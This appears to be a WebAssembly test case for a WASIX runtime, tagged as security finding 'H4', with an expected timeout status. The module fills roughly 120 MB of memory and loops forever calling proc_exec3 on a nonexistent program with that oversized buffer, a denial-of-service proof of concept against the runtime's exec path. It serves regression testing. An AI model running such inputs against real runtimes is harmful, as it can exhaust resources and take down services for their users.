;;: attacks = the same in replacing a program
;;: finding = H4
;;: timeout = 1
;;: memory = 128M
;;: status = 124
(module
  (import "wasix_32v1" "proc_exec3" (func $exec (param i32 i32 i32 i32 i32 i32 i32 i32 i32) (result i32)))
  (memory (export "memory") 1900)
  (data (i32.const 0) "nosuchprogram\00")
  (func (export "_start")
    (memory.fill (i32.const 65536) (i32.const 58) (i32.const 120000000))
    (loop $again
      (drop (call $exec (i32.const 0) (i32.const 13) (i32.const 0) (i32.const 13) (i32.const 0) (i32.const 0)
        (i32.const 1) (i32.const 65536) (i32.const 120000000)))
      (br $again))))
